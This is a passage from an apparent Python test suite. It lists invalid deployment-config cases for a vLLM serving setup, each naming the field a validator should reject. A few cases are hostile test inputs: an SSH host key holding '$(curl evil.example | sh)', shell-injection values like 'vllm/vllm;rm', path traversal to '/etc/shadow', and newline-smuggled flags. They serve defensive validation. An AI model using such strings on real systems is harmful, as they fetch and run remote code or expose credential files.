        ("fault-tolerance", ["--fault-tolerance-config", "{}"]), ("scale-out", ["--enable-scale-out"])]],
    *[(f"env-{name}", "h20", {f"container.env.{var}": value}, f"container.env.{var}") for name, var, value in [
        ("service-key", "MY_SERVICE_KEY", "abc123xyz"), ("bearer", "AUTH", "Bearer sk-abcdefghijklmnop"),
        ("url-password", "DB_URL", "postgres://u:pw@h/db"), ("pp-partition", "VLLM_PP_LAYER_PARTITION", "1,42"),
        ("nccl-comm-id", "NCCL_COMM_ID", "10.0.0.1:1234"),
        ("insecure-pickle", "VLLM_ALLOW_INSECURE_SERIALIZATION", "1"),
        ("token-inside", "EXTRA_HEADERS", "x-auth: hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789")]],
    # golden patterns that cannot fail
    *[(f"golden-matches-anything-{i}", "prod", {"api.smoke.golden": [{"prompt": "17*19?", "expect": e}]},
       "api.smoke.golden.0.expect")
      for i, e in enumerate([".*", "(?s).*", "\\d*", "323|.*", "[^x]*", ".+", "(.|\n)*"])],
    # SSH host keys
    ("host-key-rsa", "prod", {"nodes.0.ssh.host_key": "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7"},
     "nodes.0.ssh.host_key"),
    ("host-key-with-host", "prod", {"nodes.0.ssh.host_key": "10.30.8.1 ssh-ed25519 "
                                    "AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj"},
     "nodes.0.ssh.host_key"),
    ("host-key-with-comment", "prod", {"nodes.0.ssh.host_key": "ssh-ed25519 "
                                       "AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj root@x"},
     "nodes.0.ssh.host_key"),
    ("host-key-options", "prod", {"nodes.0.ssh.host_key": '@cert-authority ssh-ed25519 '
                                  "AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj"},
     "nodes.0.ssh.host_key"),
    ("host-key-newline", "prod", {"nodes.1.ssh.host_key": "ssh-ed25519 "
                                  "AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj\n"
                                  "* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj"},
     "nodes.1.ssh.host_key"),
    ("host-key-truncated", "prod", {"nodes.0.ssh.host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZ"},
     "nodes.0.ssh.host_key"),
    ("host-key-type-mismatch", "prod", {"nodes.0.ssh.host_key": "ecdsa-sha2-nistp256 "
                                        "AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj"},
     "nodes.0.ssh.host_key"),
    ("host-key-not-base64", "prod", {"nodes.0.ssh.host_key": "ssh-ed25519 $(curl evil.example | sh)"},
     "nodes.0.ssh.host_key"),
    # names and paths
    ("node-name-upper", "prod", {"nodes.0.name": "Node1"}, "nodes.0.name"),
    ("node-name-space", "prod", {"nodes.0.name": "node 1"}, "nodes.0.name"),
    ("node-name-dup", "prod", {"nodes.1.name": "node1"}, "nodes.1.name"),
    ("node-name-long", "prod", {"nodes.0.name": "n" * 80}, "nodes.0.name"),
    ("container-name-slash", "prod", {"container.name": "a/b"}, "container.name"),
    ("container-name-empty", "prod", {"container.name": ""}, "container.name"),
    ("proxy-container-name-shell", "prod", {"api.proxy.container_name": "$(x)"}, "api.proxy.container_name"),
    ("served-name-with-flag", "prod", {"model.served_name": "DeepSeek --host 127.0.0.1"}, "model.served_name"),
    ("served-name-empty", "prod", {"model.served_name": ""}, "model.served_name"),
    ("served-name-newline", "prod", {"model.served_name": "a\nb"}, "model.served_name"),
    ("host-dir-relative", "prod", {"model.host_dir": "models"}, "model.host_dir"),
    ("host-dir-dotdot", "prod", {"model.host_dir": "/mnt/../etc"}, "model.host_dir"),
    ("host-dir-colon", "prod", {"model.host_dir": "/mnt/a:b"}, "model.host_dir"),
    ("host-dir-space", "prod", {"model.host_dir": "/mnt/my models"}, "model.host_dir"),
    ("host-dir-trailing-slash", "prod", {"model.host_dir": "/mnt/models/"}, "model.host_dir"),
    ("container-dir-root", "prod", {"model.container_dir": "/"}, "model.container_dir"),
    ("model-path-dotdot", "prod", {"model.path": "../../etc/shadow"}, "model.path"),
    ("model-path-empty", "prod", {"model.path": "/"}, "model.path"),
    ("cache-dir-relative", "prod", {"container.cache_dir": "./vllm-cache"}, "container.cache_dir"),
    ("volume-relative", "h20", {"container.volumes.1.host": "logs"}, "container.volumes.1.host"),
    ("volume-container-dotdot", "h20", {"container.volumes.1.container": "/var/log/../../etc"},
     "container.volumes.1.container"),
    ("volume-container-root", "h20", {"container.volumes.1.container": "/"}, "container.volumes.1.container"),
    ("volume-twice-same-target", "h20", {"container.volumes.1.container": "/dev/infiniband"}, "container.volumes"),
    ("device-not-dev", "h20", {"container.devices": ["/etc/passwd"]}, "container.devices.0"),
    ("device-dotdot", "h20", {"container.devices": ["/dev/../etc"]}, "container.devices.0"),
    ("capability-unknown", "h20", {"container.capabilities": ["ALL_THE_THINGS"]}, "container.capabilities.0"),
    ("capability-twice", "h20", {"container.capabilities": ["IPC_LOCK", "CAP_IPC_LOCK"]}, "container.capabilities"),
    ("nic-too-long", "prod", {"nodes.0.nics": ["averyveryverylongname0", "ens13np0"]}, "nodes.0.nics.0"),
    ("nic-space", "prod", {"nodes.0.nics": ["ens11 np0", "ens13np0"]}, "nodes.0.nics.0"),
    ("nic-nccl-prefix", "prod", {"nodes.0.nics": ["^ens11np0", "ens13np0"]}, "nodes.0.nics.0"),
    ("nic-duplicate", "prod", {"nodes.0.nics": ["ens11np0", "ens11np0"]}, "nodes.0.nics"),
    ("hca-bad", "prod", {"nodes.0.hcas": ["mlx5_0:one", "mlx5_2:1"]}, "nodes.0.hcas.0"),
    ("hca-duplicate", "prod", {"nodes.0.hcas": ["mlx5_0:1", "mlx5_0:1"]}, "nodes.0.hcas"),
    ("mgmt-ifname-comma", "h20", {"nodes.0.management_ifname": "bond0,eth0"}, "nodes.0.management_ifname"),
    # images
    ("image-no-tag", "prod", {"image": "vllm/vllm-openai"}, "image"),
    ("image-uppercase-path", "prod", {"image.repository": "vllm/VLLM-openai"}, "image.repository"),
    ("image-repo-shell", "prod", {"image.repository": "vllm/vllm;rm"}, "image.repository"),
    ("image-repo-space", "prod", {"image.repository": "vllm/ vllm"}, "image.repository"),
    ("image-tag-float", "prod", {"image.tag": 1.2}, "image.tag"),
    ("image-tag-slash", "prod", {"image.tag": "a/b"}, "image.tag"),
    ("image-digest-short", "prod", {"image.digest": "sha256:abc"}, "image.digest"),
    ("image-digest-upper", "prod", {"image.digest": "sha256:" + "AB" * 32}, "image.digest"),
    ("image-list", "prod", {"image": ["vllm/vllm-openai", "v1"]}, "image"),
    ("proxy-image-no-tag", "prod", {"api.proxy.image": "nginx"}, "api.proxy.image"),
    # enums, booleans, structure
    ("backend-unknown", "prod", {"parallelism.backend": "slurm"}, "parallelism.backend"),
    ("transport-unknown", "prod", {"fabric.transport": "ethernet"}, "fabric.transport"),
    ("restart-unknown", "prod", {"container.restart": "sometimes"}, "container.restart"),
    ("restart-yaml-no-bool", "prod", {"container.restart": False}, "container.restart"),
    ("restart-epoch-negative", "prod", {"container.restart_epoch": -1}, "container.restart_epoch"),
    ("restart-epoch-huge", "prod", {"container.restart_epoch": 1_000_000_001}, "container.restart_epoch"),
    ("restart-epoch-string", "prod", {"container.restart_epoch": "1"}, "container.restart_epoch"),
    ("restart-epoch-bool", "prod", {"container.restart_epoch": True}, "container.restart_epoch"),
    ("restart-epoch-float", "prod", {"container.restart_epoch": 1.5}, "container.restart_epoch"),
    ("network-mode-bridge", "prod", {"container.network_mode": "bridge"}, "container.network_mode"),
    ("profile-unknown", "prod", {"model.profile": "llama"}, "model.profile"),
    ("vision-string-off", "prod", {"vision": "off"}, "vision"),
    ("vision-yes", "prod", {"vision": "yes"}, "vision"),
    # a rehearsal (no GPUs, docs/rehearsal.md): its own type, and everything that would still need a GPU
    ("rehearsal-yes", "prod", {"rehearsal": "yes"}, "rehearsal"),
    ("rehearsal-int", "prod", {"rehearsal": 1}, "rehearsal"),
    ("rehearsal-gpu-image", "prod", {"rehearsal": True}, "image"),
    ("rehearsal-carded-gpu-image", "h20", {"rehearsal": True}, "image"),
    ("rehearsal-ray", "h20", {"rehearsal": True}, "parallelism.backend"),
    ("rehearsal-rdma-device", "h20", {"rehearsal": True}, "container.devices.0"),
    ("rehearsal-dcgm", "prod", {"rehearsal": True, **OBS}, "observability.enabled"),
    ("gpu-count-zero-not-a-rehearsal", "h20", {"nodes.1.gpus.count": 0}, "nodes.1.gpus.count"),
    ("expert-int", "prod", {"parallelism.expert": 1}, "parallelism.expert"),
    ("unknown-top-key", "prod", {"speculativ": {"method": "dspark"}}, "speculativ"),
    ("unknown-nested-key", "prod", {"parallelism.tensor_paralel": 8}, "parallelism.tensor_paralel"),
    ("unknown-node-key", "prod", {"nodes.0.gpu": {"count": 8}}, "nodes.0.gpu"),
    ("nodes-empty", "prod", {"nodes": []}, "nodes"),
    ("nodes-mapping", "prod", {"nodes": {"node1": {}}}, "nodes"),
    ("missing-model", "prod", {"model": DEL}, "model"),
    ("missing-tensor", "prod", {"parallelism.tensor": DEL}, "parallelism.tensor"),
    ("serving-null", "prod", {"serving": None}, "serving"),
    # topology rules
    ("tp16-v41", "prod", {"parallelism.tensor": 16, "parallelism.data": 1}, "parallelism.tensor"),
    ("dspark-pp2", "prod", {"parallelism.pipeline": 2, "parallelism.tensor": 4}, "parallelism.pipeline"),
    ("ray-with-dp", "h20", {"parallelism.data": 2}, "parallelism.data"),
    ("ray-gpu-mismatch", "h20", {"parallelism.pipeline": 1}, "parallelism.pipeline"),
    ("dp-does-not-map", "prod", {"parallelism.data": 3}, "parallelism.data"),
    # DP load balancing (docs/load-balancing.md): prod has 1 DP rank per node, h20 runs Ray
    ("lb-unknown-mode", "prod", {"parallelism.dp_load_balancing": "round-robin"}, "parallelism.dp_load_balancing"),
    ("lb-external-on-ray", "h20", {"parallelism.dp_load_balancing": "external"}, "parallelism.dp_load_balancing"),
    ("lb-external-data-one", "prod", {"parallelism.dp_load_balancing": "external", "parallelism.data": 1},
     "parallelism.dp_load_balancing"),
    ("lb-external-shared-gpus", "h20", {"parallelism.dp_load_balancing": "external", "parallelism.backend": "mp",
                                        "parallelism.tensor": 1, "parallelism.pipeline": 1, "parallelism.data": 16},
     "container.set_cuda_visible_devices"),
    ("lb-external-head-address", "prod", {"parallelism.dp_load_balancing": "external", "serving.host": "10.30.8.1"},
     "serving.host"),
    ("lb-external-loopback-no-proxy", "prod", {"parallelism.dp_load_balancing": "external",
                                               "serving.host": "127.0.0.1"}, "serving.host"),
    ("lb-external-ports-past-65535", "prod", {"parallelism.dp_load_balancing": "external", "parallelism.tensor": 4,
                                              "parallelism.data": 4, "serving.port": 65535}, "serving.port"),
    ("lb-external-headless", "prod", {"parallelism.dp_load_balancing": "external",
                                      "serving.extra_args": ["--headless"]}, "serving.extra_args.0"),
    ("lb-hybrid-one-rank-per-node", "prod", {"parallelism.dp_load_balancing": "hybrid"},
     "parallelism.dp_load_balancing"),
    ("lb-hybrid-local-one-given", "prod", {"parallelism.dp_load_balancing": "hybrid", "parallelism.tensor": 4,
                                           "parallelism.data": 3, "nodes.0.data_parallel_local": 2,
                                           "nodes.1.data_parallel_local": 1}, "nodes.1.data_parallel_local"),
    ("lb-hybrid-on-ray", "h20", {"parallelism.dp_load_balancing": "hybrid"}, "parallelism.dp_load_balancing"),
    ("lb-hybrid-head-address", "prod", {"parallelism.dp_load_balancing": "hybrid", "parallelism.tensor": 4,
                                        "parallelism.data": 4, "serving.host": "10.30.8.1"}, "serving.host"),
    ("lb-hybrid-loopback-no-proxy", "prod", {"parallelism.dp_load_balancing": "hybrid", "parallelism.tensor": 4,
                                             "parallelism.data": 4, "serving.host": "127.0.0.1"}, "serving.host"),
    ("weights-do-not-fit", "prod", {"nodes.0.gpus.memory_gb": 16, "nodes.1.gpus.memory_gb": 16},
     "nodes.0.gpus.memory_gb"),
    ("transport-without-hcas", "prod", {"nodes.0.hcas": []}, "nodes.0.hcas"),
    ("control-plane-without-data-ips", "prod", {"nodes.0.data_ips": [], "nodes.0.nics": []}, "nodes.0.data_ips"),
    ("mgmt-socket-without-ifname", "h20", {"nodes.0.management_ifname": None}, "nodes.0.management_ifname"),
    ("parser-not-in-image", "h20", {"serving.reasoning_parser": "no_such_parser"}, "serving.reasoning_parser"),
    ("dtype-not-a-choice", "h20", {"serving.dtype": "int4"}, "serving.dtype"),
    ("vision-on-v4", "h20", {"vision": True}, "vision"),
    # managed flags in extra_args
    ("xa-tp-short", "prod", {"serving.extra_args": ["-tp", "16"]}, "serving.extra_args.0"),
    ("xa-tp-underscore", "prod", {"serving.extra_args": ["--tensor_parallel_size=16"]}, "serving.extra_args.0"),
    ("xa-tp-abbrev", "prod", {"serving.extra_args": ["--tensor-par", "16"]}, "serving.extra_args.0"),
    ("xa-dpr-short", "prod", {"serving.extra_args": ["-dpr", "1"]}, "serving.extra_args.0"),
    ("xa-start-rank-underscore", "prod", {"serving.extra_args": ["--data_parallel_start_rank=1"]},
     "serving.extra_args.0"),
    ("xa-hybrid-lb", "prod", {"serving.extra_args": ["--data-parallel-hybrid-lb"]}, "serving.extra_args.0"),
    ("xa-external-lb", "prod", {"serving.extra_args": ["--data-parallel-external-lb"]}, "serving.extra_args.0"),
    ("xa-multi-port-lb", "prod", {"serving.extra_args": ["-dpm"]}, "serving.extra_args.0"),
    ("xa-fault-tolerance", "prod", {"serving.extra_args": ["--enable-fault-tolerance"]}, "serving.extra_args.0"),
    ("xa-dpa", "prod", {"serving.extra_args": ["-dpa", "8.8.8.8"]}, "serving.extra_args.0"),
    ("xa-api-key", "prod", {"serving.extra_args": [f"--api_key={PLAIN_SECRET}"]}, "serving.extra_args.0"),
    ("xa-hf-token", "prod", {"serving.extra_args": ["--hf-token", PLAIN_SECRET]}, "serving.extra_args.0"),
    ("xa-served-name", "prod", {"serving.extra_args": ["--served_model_name=x"]}, "serving.extra_args.0"),
    ("xa-host-one-item", "prod", {"serving.extra_args": ["--host 127.0.0.1"]}, "serving.extra_args.0"),
    ("xa-config-file", "prod", {"serving.extra_args": ["--config", "file.yaml"]}, "serving.extra_args.0"),
    ("xa-disable-ep", "prod", {"serving.extra_args": ["--disable-expert-parallel"]}, "serving.extra_args.0"),
    ("xa-no-enable-prefix", "prod", {"serving.extra_args": ["--no-enable-prefix-caching"]}, "serving.extra_args.0"),
    ("xa-nnodes-attached", "prod", {"serving.extra_args": ["-n4"]}, "serving.extra_args.0"),
    ("xa-spec-dotted", "prod", {"serving.extra_args": ["--speculative-config.method", "ngram"]},
     "serving.extra_args.0"),
    ("xa-model", "prod", {"serving.extra_args": ["--model", "/other"]}, "serving.extra_args.0"),
    ("xa-headless", "h20", {"serving.extra_args": ["--headless"]}, "serving.extra_args.0"),
    ("xa-api-server-count", "h20", {"serving.extra_args": ["-asc", "2"]}, "serving.extra_args.0"),
    ("xa-unknown-flag", "h20", {"serving.extra_args": ["--enforce-eagr"]}, "serving.extra_args.0"),
    ("xa-ambiguous", "h20", {"serving.extra_args": ["--max-lora", "2"]}, "serving.extra_args.0"),
    ("xa-stray-value", "h20", {"serving.extra_args": ["64"]}, "serving.extra_args.0"),
    ("xa-newline", "h20", {"serving.extra_args": ["--enforce-eager\n--host=0.0.0.0"]}, "serving.extra_args.0"),
    ("xa-missing-value", "h20", {"serving.extra_args": ["--max-lora-rank"]}, "serving.extra_args.0"),
    ("xa-ssl", "h20", {"serving.extra_args": ["--ssl-keyfile", "/k.pem"]}, "serving.extra_args.0"),
    ("xa-not-list", "h20", {"serving.extra_args": "--enforce-eager"}, "serving.extra_args"),
    # managed env, secrets in env
    ("env-host-ip", "prod", {"container.env.VLLM_HOST_IP": "8.8.8.8"}, "container.env.VLLM_HOST_IP"),
    ("env-socket-ifname", "prod", {"fabric.env.NCCL_SOCKET_IFNAME": "eth0"}, "fabric.env.NCCL_SOCKET_IFNAME"),
    ("env-ready-timeout-abc", "prod", {"container.env.VLLM_ENGINE_READY_TIMEOUT_S": "abc"},
     "container.env.VLLM_ENGINE_READY_TIMEOUT_S"),
    ("env-api-key", "prod", {"container.env.VLLM_API_KEY": PLAIN_SECRET}, "container.env.VLLM_API_KEY"),
    ("env-hf-token", "prod", {"container.env.HF_TOKEN": PLAIN_SECRET}, "container.env.HF_TOKEN"),
    ("env-aws-secret", "prod", {"container.env.AWS_SECRET_ACCESS_KEY": "abc"}, "container.env.AWS_SECRET_ACCESS_KEY"),
    ("env-value-looks-like-key", "prod", {"container.env.MY_VAR": "sk-live-abcdef"}, "container.env.MY_VAR"),
    ("env-name-equals", "prod", {"container.env": {"A=B": "x"}}, "container.env.A=B"),
    ("env-name-space", "prod", {"container.env": {"A B": "x"}}, "container.env.A B"),
    ("env-value-newline", "prod", {"container.env.MY_VAR": "a\nVLLM_HOST_IP=8.8.8.8"}, "container.env.MY_VAR"),
    ("env-value-number", "prod", {"container.env.MY_VAR": 1}, "container.env.MY_VAR"),
    ("fabric-env-not-fabric", "prod", {"fabric.env.PATH": "/tmp"}, "fabric.env"),
    ("env-dp-master", "prod", {"container.env.VLLM_DP_MASTER_PORT": "1"}, "container.env.VLLM_DP_MASTER_PORT"),
    ("override-not-overridable", "prod", {"container.managed_env_overrides.VLLM_API_KEY": "x"},
     "container.managed_env_overrides.VLLM_API_KEY"),
    ("override-not-managed", "prod", {"container.managed_env_overrides.MY_VAR": "x"},
     "container.managed_env_overrides.MY_VAR"),
    ("env-secret-managed-name", "prod", {"env_secrets": {"VLLM_HOST_IP": SECRET}}, "env_secrets.VLLM_HOST_IP"),
    # speculative options
    ("spec-option-method", "prod", {"speculative.options.method": "ngram"}, "speculative.options"),
    ("spec-option-tokens", "prod", {"speculative.options.num_speculative_tokens": 99}, "speculative.options"),
    ("spec-option-nan", "prod", {"speculative.options.x": math.nan}, "speculative.options.x"),
    ("spec-option-key-upper", "prod", {"speculative.options": {"Bad-Key": 1}}, "speculative.options.Bad-Key"),
    ("spec-method-shell", "prod", {"speculative.method": "dspark;rm"}, "speculative.method"),
    ("spec-option-unknown-0330", "h20", {"speculative": {"method": "dspark", "num_speculative_tokens": 2,
                                                         "options": {"draft_sample_methd": "x"}}},
     "speculative.options.draft_sample_methd"),
    # secrets
    ("plain-api-key", "prod", {"api_key": PLAIN_SECRET}, "api_key"),
    ("literal-secret-text", "prod", {"api_key": "[secret]"}, "api_key"),
    ("plain-ssh-key", "prod", {"ssh_private_key": "-----BEGIN KEY-----"}, "ssh_private_key"),
    ("plain-tls-cert", "prod", {"tls_certificate": "-----BEGIN CERT-----"}, "tls_certificate"),
    ("plain-proxy-key", "prod", {"proxy_keys": {"team-a": PLAIN_SECRET}}, "proxy_keys.team-a"),
    ("proxy-keys-blob", "prod", {"proxy_keys": SECRET}, "proxy_keys"),
    ("proxy-client-bad-name", "prod", {"proxy_keys": {"Team A": SECRET}}, "proxy_keys.Team A"),
    ("plain-env-secret", "prod", {"env_secrets": {"HF_TOKEN": PLAIN_SECRET}}, "env_secrets.HF_TOKEN"),
    ("secret-in-container-env", "prod", {"container.env.HF_TOKEN": SECRET}, "container.env.HF_TOKEN"),
    ("secret-in-served-name", "prod", {"model.served_name": SECRET}, "model.served_name"),
    ("proxy-without-key", "prod", {"api.proxy.enabled": True, "serving.host": "127.0.0.1"}, "api_key"),
    ("proxy-with-public-vllm", "prod", {"api.proxy.enabled": True, "api_key": SECRET,
                                        "proxy_keys": {"a": SECRET}, "api.proxy.tls": False}, "serving.host"),
    # hostile review of issues 10 and 15 (helper report): each was accepted before
    ("engram-config-repeated", "prod", {"nodes.0.gpus.memory_gb": 48, "nodes.1.gpus.memory_gb": 48,
                                        "serving.extra_args": ["--engram-config", '{"cpu_offload": true}',
                                                               "--engram-config", '{"cpu_offload": false}']},
     "serving.extra_args.2"),
    ("xa-pcp", "h20", {"serving.extra_args": ["-pcp", "2"]}, "serving.extra_args.0"),
    ("xa-dcp", "h20", {"serving.extra_args": ["--decode-context-parallel-size", "2"]}, "serving.extra_args.0"),
    ("xa-kv-cache-bytes", "h20", {"serving.extra_args": ["--kv-cache-memory-bytes", "500G"]}, "serving.extra_args.0"),
    ("xa-gpu-blocks", "h20", {"serving.extra_args": ["--num-gpu-blocks-override", "100000000"]},
     "serving.extra_args.0"),
    ("xa-cpu-offload", "h20", {"serving.extra_args": ["--cpu-offload-gb", "100000"]}, "serving.extra_args.0"),
    ("xa-hf-overrides", "h20", {"serving.extra_args": ["--hf-overrides", '{"num_attention_heads": 7}']},
     "serving.extra_args.0"),
    ("xa-elastic-underscore", "h20", {"serving.extra_args": ["--enable_elastic_ep"]}, "serving.extra_args.0"),
    ("xa-eplb", "h20", {"serving.extra_args": ["--enable-eplb"]}, "serving.extra_args.0"),
    ("xa-help", "h20", {"serving.extra_args": ["-h"]}, "serving.extra_args.0"),
    ("xa-load-format", "h20", {"serving.extra_args": ["--load-format", "safetensors"]}, "serving.extra_args.0"),
    ("load-format-unknown", "h20", {"serving.load_format": "bitsandbytes"}, "serving.load_format"),
    ("load-format-dummy", "h20", {"serving.load_format": "dummy"}, "serving.load_format"),
    ("load-format-upper", "h20", {"serving.load_format": "Safetensors"}, "serving.load_format"),
    ("load-strategy-unknown", "h20", {"serving.safetensors_load_strategy": "mmap"},
     "serving.safetensors_load_strategy"),
    ("loader-extra-unknown-key", "h20", {"serving.model_loader_extra_config": {"threads": 8}},
     "serving.model_loader_extra_config.threads"),
    ("loader-extra-nested", "h20", {"serving.model_loader_extra_config": {"num_threads": {"n": 8}}},
     "serving.model_loader_extra_config.num_threads"),
    ("xa-token-in-json", "h20", {"serving.extra_args": ["--model-loader-extra-config",
                                                       '{"hf_token": "hf_AbCdEfGhIjKl"}']}, "serving.extra_args.0"),
    ("xa-token-value", "h20", {"serving.extra_args": ["--tokenizer-revision", "sk-live-0123456789"]},
     "serving.extra_args.0"),
    ("xa-url-password", "h20", {"serving.extra_args": ["--otlp-traces-endpoint", "https://u:sk-pass@x.example"]},
     "serving.extra_args.0"),
    ("data-ip-unspecified", "prod", {"nodes.0.data_ips.0": "0.0.0.0"}, "nodes.0.data_ips.0"),
    ("data-ip-multicast", "prod", {"nodes.0.data_ips.0": "224.0.0.1"}, "nodes.0.data_ips.0"),
    ("data-ip-broadcast", "prod", {"nodes.0.data_ips.0": "255.255.255.255"}, "nodes.0.data_ips.0"),
    ("data-ip-loopback", "prod", {"nodes.0.data_ips.0": "127.0.0.1"}, "nodes.0.data_ips.0"),
    ("mgmt-ip-loopback-ray", "h20", {"nodes.0.management_ip": "127.0.0.1"}, "nodes.0.management_ip"),
    ("mgmt-ip-v6-loopback", "h20", {"nodes.0.management_ip": "::1"}, "nodes.0.management_ip"),
    ("mgmt-ip-mapped", "prod", {"nodes.0.management_ip": "::ffff:10.30.8.1"}, "nodes.0.management_ip"),
    ("mgmt-ip-mapped-unspecified", "prod", {"nodes.0.management_ip": "::ffff:0.0.0.0"}, "nodes.0.management_ip"),
    ("data-ip-is-other-mgmt", "prod", {"nodes.0.data_ips.0": "10.30.8.2"}, "nodes.1.management_ip"),
    ("mgmt-ip-is-other-data", "prod", {"nodes.0.management_ip": "1.1.1.1"}, "nodes.1.data_ips.0"),
    ("ssh-host-is-other-data", "prod", {"nodes.1.ssh.host": "1.1.1.2"}, "nodes.1.ssh.host"),
    ("mgmt-ifname-lo", "h20", {"nodes.0.management_ifname": "lo"}, "nodes.0.management_ifname"),
    ("nic-docker0", "prod", {"nodes.0.nics": ["docker0", "ens13np0"]}, "nodes.0.nics.0"),
    ("nic-veth", "prod", {"nodes.0.nics": ["veth1a2b", "ens13np0"]}, "nodes.0.nics.0"),
    ("mixed-families", "h20", {"nodes.0.management_ip": "fd00::11",
                               "fabric.private_networks": ["fd00::/64", "198.51.100.0/24", "192.0.2.0/24"]},
     "nodes.1.management_ip"),
    ("ipv6-endpoint-ipv4-bind", "h20", {"nodes.0.management_ip": "fd00::11", "nodes.1.management_ip": "fd00::12",
                                        "nodes.0.ssh.host": "fd00::11", "nodes.1.ssh.host": "fd00::12",
                                        "fabric.private_networks": ["fd00::/64", "198.51.100.0/24"]},
     "serving.host"),
    ("serving-host-other-node", "prod", {"serving.host": "10.30.8.2"}, "serving.host"),
    ("serving-host-public", "prod", {"serving.host": "8.8.8.8"}, "serving.host"),
    ("serving-host-multicast", "prod", {"serving.host": "224.0.0.1"}, "serving.host"),
    ("public-host-unspecified", "prod", {"api.public_host": "0.0.0.0"}, "api.public_host"),
    ("ssh-host-multicast", "prod", {"nodes.0.ssh.host": "224.0.0.1"}, "nodes.0.ssh.host"),
    ("engine-and-proxy-same-name", "prod", {"api.proxy.enabled": True, "serving.host": "127.0.0.1",
                                            "api_key": SECRET, "proxy_keys": {"a": SECRET},
                                            "tls_certificate": SECRET, "tls_private_key": SECRET,
                                            "container.name": "vllm-proxy"}, "api.proxy.container_name"),
    ("container-dir-is-cache", "prod", {"model.container_dir": "/root/.cache"}, "container.cache_dir"),
    ("container-dir-system", "prod", {"model.container_dir": "/usr"}, "model.container_dir"),
    ("volume-on-models", "h20", {"container.volumes.1.container": "/data/models"}, "container.volumes.1.container"),
    ("volume-on-etc", "h20", {"container.volumes.1.container": "/etc"}, "container.volumes.1.container"),
    ("socket-with-nccl-net-ib", "prod", {"fabric.transport": "socket", "fabric.nccl_net": "IB"}, "fabric.nccl_net"),
    ("kv-dtype-bogus", "h20", {"serving.kv_cache_dtype": "bogus"}, "serving.kv_cache_dtype"),
    ("batched-below-seqs", "h20", {"serving.max_num_batched_tokens": 4}, "serving.max_num_batched_tokens"),
    ("draft-tp-4", "h20", {"speculative": {"method": "dspark", "num_speculative_tokens": 2,
                                           "options": {"draft_tensor_parallel_size": 4}},
                           "parallelism.pipeline": 1, "parallelism.tensor": 8,
                           "parallelism.backend": "mp", "parallelism.data": 2},
     "speculative.options.draft_tensor_parallel_size"),
    ("env-dev-mode", "prod", {"container.env.VLLM_SERVER_DEV_MODE": "1"}, "container.env.VLLM_SERVER_DEV_MODE"),
    ("env-lowercase-managed", "prod", {"container.env.vllm_host_ip": "1.2.3.4"}, "container.env.vllm_host_ip"),
    ("env-nvidia-visible", "prod", {"container.env.NVIDIA_VISIBLE_DEVICES": "0"},
     "container.env.NVIDIA_VISIBLE_DEVICES"),
    ("override-host-ip", "prod", {"container.managed_env_overrides.VLLM_HOST_IP": "0.0.0.0"},
     "container.managed_env_overrides.VLLM_HOST_IP"),
    ("override-secret-value", "prod", {"container.managed_env_overrides.NCCL_DEBUG": "sk-secret-0123456789"},
     "container.managed_env_overrides.NCCL_DEBUG"),
    ("hca-port-default-twice", "prod", {"nodes.0.hcas": ["mlx5_0", "mlx5_0:1"]}, "nodes.0.hcas"),
    ("host-dir-double-slash", "prod", {"model.host_dir": "//mnt/models"}, "model.host_dir"),
    # settings that contradict each other or break a check (stacks/planner/setting_rules.py)
    ("gpu-memory-contradicts-model", "prod", {"nodes.0.gpus.memory_gb": 141}, "nodes.0.gpus.memory_gb"),
    ("h20-memory-contradicts-model", "h20", {"nodes.1.gpus.memory_gb": 48}, "nodes.1.gpus.memory_gb"),
    ("gpu-memory-not-the-named-size", "prod", {"nodes.0.gpus.model": "NVIDIA A100-SXM4-40GB",
                                               "nodes.0.gpus.memory_gb": 80}, "nodes.0.gpus.memory_gb"),
    ("nccl-debug-file-hides-the-log", "prod", {"fabric.env": {"NCCL_DEBUG_FILE": "/tmp/nccl.%h.%p"}},
     "fabric.env.NCCL_DEBUG_FILE"),
    ("nccl-subsys-hides-net", "prod", {"fabric.env": {"NCCL_DEBUG_SUBSYS": "COLL"}}, "fabric.env.NCCL_DEBUG_SUBSYS"),
    ("nccl-subsys-excludes-init", "prod", {"fabric.env": {"NCCL_DEBUG_SUBSYS": "^INIT"}},
     "fabric.env.NCCL_DEBUG_SUBSYS"),
    ("health-timeout-below-load-estimate", "prod", {"api.health_timeout_s": 60}, "api.health_timeout_s"),
    ("wildcard-server-name-as-endpoint", "prod", {**PROXIED, "api.proxy.server_name": "*.llm.example.com"},
     "api.proxy.server_name"),
    # expert-parallel keys (docs/expert-parallel.md): values vLLM 0.33.0 would replace, ignore or refuse
    ("a2a-removed-pplx", "prod", {"parallelism.all2all_backend": "pplx"}, "parallelism.all2all_backend"),
    ("a2a-removed-naive", "prod", {"parallelism.all2all_backend": "naive"}, "parallelism.all2all_backend"),
    ("a2a-renamed", "prod", {"parallelism.all2all_backend": "flashinfer_all2allv"}, "parallelism.all2all_backend"),
    ("a2a-not-a-cli-choice", "prod", {"parallelism.all2all_backend": "passthrough"}, "parallelism.all2all_backend"),
    ("a2a-unknown", "prod", {"parallelism.all2all_backend": "deepep"}, "parallelism.all2all_backend"),
    ("a2a-without-ep", "prod", {"parallelism.expert": False, "parallelism.all2all_backend": "deepep_low_latency"},
     "parallelism.all2all_backend"),
    ("eplb-string", "prod", {"parallelism.eplb": "on"}, "parallelism.eplb"),
    ("eplb-unknown-field", "prod", {"parallelism.eplb.windowsize": 10}, "parallelism.eplb.windowsize"),
    ("eplb-redundant-negative", "prod", {"parallelism.eplb.num_redundant_experts": -1},
     "parallelism.eplb.num_redundant_experts"),
    ("eplb-redundant-over-1023", "prod", {"parallelism.eplb.enabled": True, "parallelism.eplb.num_redundant_experts":
